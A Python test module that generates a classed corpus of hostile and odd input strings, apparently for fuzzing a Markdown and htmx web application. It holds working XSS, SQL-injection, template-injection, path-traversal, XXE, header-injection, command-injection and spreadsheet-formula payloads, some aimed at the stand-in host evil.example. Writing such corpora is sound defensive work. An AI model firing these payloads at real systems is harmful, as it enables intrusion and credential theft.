"""What people type who mean no good, and what people type who mean no harm and break things anyway: by class, each with its name."""

from __future__ import annotations

import base64
from itertools import product
from urllib.parse import quote

CALL = "alert(1)"
EVENTS = ("onclick", "onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onbeforeinput", "onbegin")
SCRIPT_HOLDERS = ("{}", "<p>{}</p>", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "</noscript>{}", "-->{}", "]]>{}", '">{}', "'>{}", "`>{}", "</option></select>{}", "<!--{}", "<![CDATA[{}]]>")
SCRIPTS = ("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>")


def scripts() -> list[str]:
    """Scripts in every position a text can stand in."""
    return [holder.format(script) for holder, script in product(SCRIPT_HOLDERS, SCRIPTS)]


def elements() -> list[str]:
    """Elements that load, run, cover or send something."""
    return [
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<style>@import'//evil.example'</style>", "<form action=//evil.example><input name=password></form>", "<input formaction=//evil.example type=submit>",
        "<button formaction=javascript:alert(1)>x</button>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style>", "<math href=javascript:alert(1)>x</math>", "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,x>", "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>", "<svg><style>@import'//evil.example'</style></svg>", "<svg/onload=alert(1)//", "<svg\nonload\n=\nalert(1)>",
        "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script>", "<plaintext>", "<frameset onload=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>",
        "<dialog open>Sign in again</dialog>", "<slot name=x>", "<portal src=//evil.example>", "<div style=position:fixed;inset:0;background:red>", "<p style=\"background:url('//evil.example')\">", "<table background=//evil.example>", "<body onload=alert(1)>", "<html manifest=//evil.example>",
        "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java&#115;cript:alert(1)'>x</a>", "<a href=data:text/html,x>x</a>", "<a target=_blank href=//evil.example>x</a>", "<a ping=//evil.example href=/>x</a>", "<img src=//evil.example/pixel.gif>", "<img srcset='//evil.example 1x'>",
        "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", '<img """><script>alert(1)</script>">', "<img src=`x`onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<x onclick=alert(1)>click</x>", "<x contenteditable onblur=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "<script>" * 50, "<b>" * 200, "</div>" * 200, "<a id=csrf-token>", "<img name=getElementById>", "<form id=x><input name=attributes>",
    ]


def attributes() -> list[str]:
    """Ways out of an attribute, and attributes that do something, htmx's among them."""
    quotes = ['" {}="alert(1)', "' {}='alert(1)", "x {}=alert(1) y", '"/{}=alert(1)//']
    names = [*EVENTS, "style", "srcdoc", "formaction", "hx-get", "hx-post", "hx-on", "hx-on:click", "hx-trigger", "hx-vals", "hx-headers", "data-hx-get", "hx-swap-oob", "hx-ext", "is", "slot", "autofocus"]
    return [quotes[at % 4].format(name) for at, name in enumerate(names)] + [f"<p {name}=javascript:alert(1)>x</p>" for name in names if name.startswith(("hx", "data"))]


def schemes() -> list[str]:
    """Addresses that are more than addresses, in their many spellings."""
    plain = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#x6A;avascript:alert(1)", "javascript\u200b:alert(1)", "javascript:%61lert(1)", "javascript://%0aalert(1)"]
    others = ["vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(), "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.example/x", "file:///etc/passwd", "filesystem:https://x/", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:https://x!/", "tel:+1", "intent://x#Intent;end", "about:blank", "ws://evil.example"]
    relative = ["//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "http://evil.example@good.example", "https://good.example\\@evil.example", "/%09/evil.example", "/%5cevil.example", "?next=//evil.example", "#//evil.example", "https://gооd.example/", "https://[::1]/", "http://0x7f.1/", "mailto:a@b?bcc=c@d", "mailto:a@b%0d%0abcc:c@d"]
    return plain + others + relative


def markdown() -> list[str]:
    """The same through Markdown: links, pictures, autolinks, references, code, tables, and what makes parsers slow."""
    some = [one for one in schemes() if "\n" not in one]
    linked = [f"[a]({one})" for one in some[:32]] + [f"![a]({one})" for one in some[:8]] + [f"<{one}>" for one in some[8:20]] + [f"[a]: {one}\n\n[a]" for one in some[:6]]
    own = [
        "[a](//evil)", "[a](<javascript:alert(1)>)", "[a](javascript&#x3a;alert(1))", "[a](java\\\nscript:alert(1))", '[a](/x "onclick=alert(1)")', "[a](/x '\"><script>alert(1)</script>')", '!["><script>alert(1)</script>](/x)', "[<script>alert(1)</script>](/x)", '[a](https://x/"onclick=alert(1))', "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```", '``` "onclick=alert(1)\nx\n```', "    <script>alert(1)</script>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "# <script>alert(1)</script>", "> > > > <svg onload=alert(1)>", "- [ ] <input onfocus=alert(1) autofocus>", "***<b onclick=alert(1)>x</b>***", "\\<script\\>alert(1)\\</script\\>", "&lt;img src=x onerror=alert(1)&gt;",
        '<https://x/?"onclick=alert(1)>', "https://x/'onclick='alert(1)", "www.evil.example/<script>", "[a][b]\n\n[b]: javascript:alert(1) 'x'", "[x]: /y\n[x]: javascript:alert(1)\n\n[x]", "<!-- --><script>alert(1)</script>", "[a](https://x/](javascript:alert(1))", "@someone <b>x</b>", "@everyone @here", "[^1]: <script>alert(1)</script>\n\nx[^1]",
        "[" * 500, "[a](" * 200, "*" * 500, "> " * 150 + "x", "`" * 300, "- " * 150, "1. " * 150, "![" * 200, "|" * 300 + "\n" + "|-" * 150, "<" * 400, "&" * 400, "\\" * 401, "_a" * 300, "**a " * 200, "~" * 300, "[]()" * 200, "(" * 300 + ")" * 300, "#" * 300,
    ]
    return linked + own


def controls() -> list[str]:
    """Signs that are not seen, that turn the direction round, or that no text should hold."""
    single = "\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9b\u00ad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202d\u202e\u2060\u2064\u2066\u2067\u2068\u2069\u206a\ufeff\ufff9\ufffb\ufffc\ufffd\ufffe\uffff\U000e0001\U000e0041\U0010ffff"
    return [f"a{sign}b" for sign in single] + ["\x00", "a\x00b", "\x00" * 50, "\ud800", "a\udfffb", "\udc00\ud800", "\ufeffbegin", "\ufffe" * 20, "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u202egnp.exe", "\u2066" * 30, "\u202e" * 30 + "abc", "".join(map(chr, range(1, 32))), "".join(map(chr, range(0x7F, 0xA1)))]


def whitespace() -> list[str]:
    """Nothing at all, in many ways."""
    return ["", " ", "\t", "\n", "\r", "\r\n", " " * 500, "\n" * 200, "\r" * 50, "\u00a0", "\u2003" * 10, "\u3000", "\u200b", "\u2800", "\u3164", "\u115f", "\u17b4", "\ufe0f", " a ", "\na\n", "a\r\nb\rc\nd", "a\u2028b", "a    b", "\ta\tb"]


def unicode_text() -> list[str]:
    """Honest text that is seldom tried: other scripts, signs on signs, long words, pictures of many parts."""
    return [
        "Z̸̛͎a̵͉͝l̶̰̃g̷̖̈o̴̢͌", "e" + "\u0301" * 300, "a" + "\u0300\u0316" * 200, "e\u0301", "é", "\u1e9b\u0323", "\u212b", "ﬁ ﬂ ﬃ", "①②③", "ᴬᴮᶜ", "Ｆｕｌｌ　ｗｉｄｔｈ", "שלום עולם", "مرحبا بالعالم", "العربية English עברית", "ہندوستان", "हिन्दी में", "ไทยไม่มีช่องว่าง", "日本語の文章", "简体中文", "한국어", "ㅎㅏㄴㄱㅡㄹ", "ქართული", "Ελληνικά", "Кириллица", "Հայերեն", "አማርኛ", "ᚠᛇᚻ",
        "İstanbul ıI", "ß ẞ SS", "Straße", "Ǆ ǅ ǆ", "ŉ", "ﷺ" * 50, "𝕳𝖊𝖑𝖑𝖔", "𐐷", "𠜎𠜱𠝹", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿" * 40, "🇩🇪🇵🇱", "🧱" * 60, "❤️", "1️⃣", "🤷🏽‍♀️", "\U0001f9d1\u200d" * 30, "☺︎ ☺️", "x" * 300, "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft", "a\u00adb\u00adc", "aаaаa (Cyrillic)", "раураl", "аpple.com", "ɢoogle.com", "l1I|O0", "test․example", "a／b", "㏂ ℀ ℡", "⒈⒉", "﹤script﹥", "ʺonclick", "ﾊﾟ", "\u0e33" * 40, "ก็็็็็็็็็็", "\u0bcd" * 30, "Ω Ω", "i̇", "K k", "٣٤٥", "²³", "Ⅷ", "½",
    ]


def templates() -> list[str]:
    """What template engines, format strings and shells would take for theirs."""
    return [
        "{{7*7}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% raw %}", "{% endblock %}", "{%print(1)%}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php echo 1 ?>", "@(1+1)", "*{7*7}", "[[${7*7}]]", "{0}", "{}", "{x.__class__}", "{0.__class__.__mro__}", "{x!r:>{y}}", "%s", "%n%n%n", "%x%x", "%(name)s", "%(x)d", "%", "%%", "%1$s", "%d %i %f",
        "100 % sure", "50%s", "$HOME", "$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& id", "!!", "<%", "%>", "{{constructor.constructor('alert(1)')()}}", "__import__('os')", "eval(1)", "None", "null", "undefined", "true", "NaN", "[object Object]", "__proto__", "constructor", "toString", "csrf_token",
    ]


def databases() -> list[str]:
    """What databases, searches, paths and headers would take for theirs."""
    return [
        "' OR '1'='1", "'; DROP TABLE ideas; --", '" OR 1=1 --', "1; SELECT pg_sleep(5)", "') UNION SELECT email FROM members --", "%' OR 1 --", "_%_%", "\\", "\\'", "/* x */", "--", "0x27", "CHAR(39)", "{$ne: null}", "*", "*)(uid=*", "NOT NOT a", "a AND OR b", "title:(a", '"a', "a~99", "a^9999", "[a TO", "?*?*", "((((((((", "AND", "OR OR OR", "-a -b", "+a", "a:b:c",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\CON", "CON", "NUL.txt", "file.php%00.jpg", "....//....//", "%2e%2e%2f", "~root", "\\\\evil.example\\share", "a/b", ".", "..", ".htaccess", "x\r\nSet-Cookie: a=b", "x\nBcc: c@evil.example", "x%0d%0aLocation: //evil.example", "x\r\n\r\n<script>alert(1)</script>", "a@b.de\r\nBcc: c@evil.example", "=?utf-8?q?=0d=0aBcc:?=", "x\u010d\u010aSet-Cookie: a=b",
    ]


def tables() -> list[str]:
    """What JSON, XML and spreadsheets would take for theirs."""
    return [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example")', '=IMPORTXML("//evil.example")', '"=1+1', "a,b;c\td", '"quoted"', 'a""b', '{"a": 1}', "[1,2", '"}', "</script><!--", "]]>", '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;", "&nbsp;", '<!ENTITY a "b">', "<![CDATA[x", "&#0;", "&#xD800;", "\\u0000", "\\ud800", '\\"',
    ]


def numbers() -> list[str]:
    """Numbers and days that are none, or that nobody expects."""
    return [
        "0", "-0", "-1", "1e9", "1e999", "1e-999", "NaN", "Infinity", "-Infinity", "2147483648", "-2147483649", "9223372036854775808", "9" * 30, "9" * 5000, "0x10", "0b1", "0o7", "1_000", "1,5", "1.000.000", "٣", "１２", "²", "00000000001", "+5", "1 2", "1e1", ".5", "5.", "--5",
        "0000-00-00", "9999-12-31", "2026-02-30", "2026-13-01", "10000-01-01", "-2026-01-01", "2026-1-1", "1.2.2026", "01/02/2026", "2026-06-30T23:59:60Z", "2026-W07", "１９９９-01-01", "tomorrow", "0001-01-01", "1970-01-01",
    ]


def addresses() -> list[str]:
    """Mail addresses and names that are none."""
    return ["a@", "@b", "a@b", "a b@c.de", "a@b@c.de", '"a b"@c.de', "a@[127.0.0.1]", "a@b..de", ".a@b.de", "a@-b.de", "ä@ö.de", "a@xn--a", "a" * 65 + "@b.de", "a@" + "b." * 120 + "de", "<a@b.de>", "a@b.de,c@d.de", "a@b.de;c@d.de", "a@b.de\x00", "a@b.de%0a", "admin", "root", "moderator", "settings", "-", "_", "a.b-c_d", "@a", "ａdmin", "аdmin", "ad\u200bmin"]


CLASSES = {
    "script": scripts(), "element": elements(), "attribute": attributes(), "scheme": schemes(), "markdown": markdown(), "control": controls(), "whitespace": whitespace(), "unicode": unicode_text(),
    "template": templates(), "database": databases(), "table": tables(), "number": numbers(), "address": addresses(), "encoded": [quote(one) for one in SCRIPTS] + ["".join(f"&#{ord(sign)};" for sign in one) for one in SCRIPTS],
}
STRINGS: list[str] = list(dict.fromkeys(one for strings in CLASSES.values() for one in strings))
MEGABYTES = ["x" * 1_000_000, "🧱" * 250_000, "<b>" * 300_000, "[a](" * 250_000, "\n" * 1_000_000, "a " * 500_000, "&amp;" * 200_000]


def class_of(string: str) -> str:
    """Where a string belongs."""
    return next(name for name, strings in CLASSES.items() if string in strings)
